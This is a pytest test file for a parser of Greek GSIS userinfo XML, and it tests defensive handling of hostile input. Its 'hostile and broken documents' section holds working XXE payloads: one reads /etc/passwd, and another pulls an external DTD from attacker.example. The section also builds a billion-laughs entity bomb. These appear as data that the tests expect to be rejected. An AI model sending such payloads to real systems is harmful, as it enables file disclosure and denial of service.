"""Parsing of the GSIS userinfo XML, including hostile documents."""

from __future__ import annotations

import dataclasses

import pytest

from identity.gsis.errors import GsisError, GsisProtocolError
from identity.gsis.userinfo import MAX_USERINFO_BYTES, GsisIdentity, parse_userinfo_xml

GOOD = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<root><userinfo userid="User123   " taxid="090000045   " lastname="ΠΑΠΑΔΟΠΟΥΛΟΣ " '
    'firstname="ΓΕΩΡΓΙΟΣ" fathername="ΙΩΑΝΝΗΣ" mothername="ΜΑΡΙΑ" birthyear="1980"/></root>'
).encode()


def userinfo(**attrs: str) -> bytes:
    base = {
        "userid": "User123",
        "taxid": "090000045",
        "lastname": "ΠΑΠΑΔΟΠΟΥΛΟΣ",
        "firstname": "ΓΕΩΡΓΙΟΣ",
        "fathername": "ΙΩΑΝΝΗΣ",
        "mothername": "ΜΑΡΙΑ",
        "birthyear": "1980",
    }
    base.update(attrs)
    rendered = " ".join(f'{k}="{v}"' for k, v in base.items() if v is not None)
    return f"<root><userinfo {rendered}/></root>".encode()


def rejected(body: bytes) -> GsisProtocolError:
    with pytest.raises(GsisProtocolError) as info:
        parse_userinfo_xml(body)
    error = info.value
    assert isinstance(error, GsisError)
    assert error.code.startswith("gsis.")
    assert error.message and any("\u0370" <= ch <= "\u03ff" for ch in error.message)  # Greek
    return error


def test_parses_a_real_shaped_response() -> None:
    identity = parse_userinfo_xml(GOOD)
    assert identity == GsisIdentity(
        userid="User123",
        afm="090000045",
        last_name="ΠΑΠΑΔΟΠΟΥΛΟΣ",
        first_name="ΓΕΩΡΓΙΟΣ",
        father_name="ΙΩΑΝΝΗΣ",
        mother_name="ΜΑΡΙΑ",
        birth_year=1980,
    )


def test_identity_is_frozen_and_repr_hides_personal_data() -> None:
    identity = parse_userinfo_xml(GOOD)
    with pytest.raises(dataclasses.FrozenInstanceError):
        identity.afm = "100000015"  # type: ignore[misc]
    text = repr(identity)
    assert "090000045" not in text and "ΠΑΠΑΔΟΠΟΥΛΟΣ" not in text
    assert "045" in text


def test_userinfo_as_document_element_and_inner_whitespace_collapsed() -> None:
    body = '<userinfo taxid="090000045" lastname="  ΠΑΠΑ  ΔΟΠΟΥΛΟΣ\t" firstname="ΓΕΩΡΓΙΟΣ"/>'.encode()
    identity = parse_userinfo_xml(body)
    assert identity.last_name == "ΠΑΠΑ ΔΟΠΟΥΛΟΣ"
    assert identity.father_name == "" and identity.userid == "" and identity.birth_year is None


def test_names_are_nfc_normalised() -> None:
    decomposed = "ΚΩΣΤΑ\u0301ΣΗΣ"  # Α + combining acute
    identity = parse_userinfo_xml(userinfo(lastname=decomposed))
    assert identity.last_name == "ΚΩΣΤΆΣΗΣ"


def test_iso_8859_7_declared_encoding() -> None:
    body = '<?xml version="1.0" encoding="ISO-8859-7"?><root><userinfo taxid="090000045" lastname="ΠΑΠΑΣ" firstname="ΝΙΚΟΣ"/></root>'.encode(
        "iso-8859-7"
    )
    assert parse_userinfo_xml(body).last_name == "ΠΑΠΑΣ"


@pytest.mark.parametrize("year", ["", "   ", "19x0", "80", "1800", "3000", "١٩٨٠"])
def test_implausible_birth_year_becomes_none(year: str) -> None:
    assert parse_userinfo_xml(userinfo(birthyear=year)).birth_year is None


def test_birth_year_with_padding() -> None:
    assert parse_userinfo_xml(userinfo(birthyear=" 1975 ")).birth_year == 1975


# -- hostile and broken documents ------------------------------------------------


def test_xxe_file_entity_is_rejected() -> None:
    body = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<root><userinfo taxid="&x;" lastname="A" firstname="B"/></root>'
    )
    error = rejected(body)
    assert error.code == "gsis.userinfo_forbidden_xml"
    assert "root:" not in error.message


def test_xxe_parameter_entity_and_external_dtd_are_rejected() -> None:
    body = (
        b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>'
        b'<root><userinfo taxid="090000045" lastname="A" firstname="B"/></root>'
    )
    assert rejected(body).code == "gsis.userinfo_forbidden_xml"
    body = b'<!DOCTYPE root SYSTEM "http://attacker.example/x.dtd"><root/>'
    assert rejected(body).code == "gsis.userinfo_forbidden_xml"


def test_billion_laughs_is_rejected() -> None:
    lol = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else f"lol{i - 1}"
        lol.append(f'<!ENTITY lol{i} "{("&" + prev + ";") * 10}">')
    body = (
        f'<?xml version="1.0"?><!DOCTYPE lolz [{"".join(lol)}]>'
        '<root><userinfo taxid="090000045" lastname="&lol9;" firstname="B"/></root>'
    ).encode()
    assert rejected(body).code == "gsis.userinfo_forbidden_xml"


def test_internal_dtd_without_entities_is_still_rejected() -> None:
    body = b'<!DOCTYPE root [<!ELEMENT root ANY>]><root><userinfo taxid="090000045" lastname="A" firstname="B"/></root>'
    assert rejected(body).code == "gsis.userinfo_forbidden_xml"


@pytest.mark.parametrize(
    "body",
    [
        b"<root><userinfo taxid='090000045'",
        b"not xml at all",
        b"<html><body>Service Unavailable</body>",
        b"\xff\xfe\x00garbage",
        b"<root><userinfo taxid='090000045' lastname='&#1;' firstname='B'/></root>",
    ],
)
def test_malformed_xml_is_rejected(body: bytes) -> None:
    assert rejected(body).code == "gsis.userinfo_malformed"


@pytest.mark.parametrize("body", [b"", b"   \n"])
def test_empty_body_is_rejected(body: bytes) -> None:
    assert rejected(body).code == "gsis.userinfo_empty"


def test_oversized_body_is_rejected_before_parsing() -> None:
    body = b"<root>" + b" " * MAX_USERINFO_BYTES + b"</root>"
    assert rejected(body).code == "gsis.userinfo_too_large"


def test_non_bytes_is_a_programming_error() -> None:
    with pytest.raises(TypeError):
        parse_userinfo_xml(GOOD.decode())  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "body",
    [
        b"<root/>",
        b"<root><error>invalid_token</error></root>",
        b"<root><UserInfo taxid='090000045' lastname='A' firstname='B'/></root>",
    ],
)
def test_missing_userinfo_is_rejected(body: bytes) -> None:
    assert rejected(body).code == "gsis.userinfo_missing"


def test_two_userinfo_records_are_ambiguous() -> None:
    one = "<userinfo taxid='090000045' lastname='A' firstname='B'/>"
    body = f"<root>{one}<nested>{one}</nested></root>".encode()
    assert rejected(body).code == "gsis.userinfo_ambiguous"


def test_missing_taxid_is_rejected() -> None:
    assert rejected(b"<root><userinfo lastname='A' firstname='B'/></root>").code == "gsis.taxid_missing"
    assert rejected(userinfo(taxid="   ")).code == "gsis.taxid_missing"


@pytest.mark.parametrize("taxid", ["090000046", "09000004", "0900000450", "ABCDEFGHI", "000000000"])
def test_invalid_taxid_is_rejected(taxid: str) -> None:
    error = rejected(userinfo(taxid=taxid))
    assert error.code == "gsis.taxid_invalid"
    assert error.message.startswith("Η ΓΓΠΣ επέστρεψε μη έγκυρο ΑΦΜ")
    assert taxid not in error.message  # no personal data in messages


@pytest.mark.parametrize("attrs", [{"lastname": ""}, {"firstname": "  "}])
def test_missing_names_are_rejected(attrs: dict[str, str]) -> None:
    assert rejected(userinfo(**attrs)).code == "gsis.name_missing"


def test_overlong_field_is_rejected() -> None:
    assert rejected(userinfo(fathername="Α" * 300)).code == "gsis.userinfo_field_too_long"
